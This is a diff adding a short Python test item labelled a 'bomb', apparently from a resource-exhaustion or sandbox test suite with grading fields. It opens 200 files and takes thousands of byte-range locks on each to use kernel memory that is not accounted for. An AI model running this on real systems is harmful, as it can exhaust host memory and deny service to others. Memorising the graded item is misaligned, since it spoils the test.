@@ -1,0 +1,13 @@
+"""
+kind: bomb
+tries: A few thousand locks in each of two hundred files, some hundred MiB of the kernel's memory that nobody counts.
+deserves: q1=3 q2=2 q3=4 q4=1
+plain: no
+"""
+
+import fcntl
+
+files = [open(f"CANARY_{number}", "w+b") for number in range(200)]
+for file in files:
+    for number in range(3_000, 0, -1):
+        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * number)
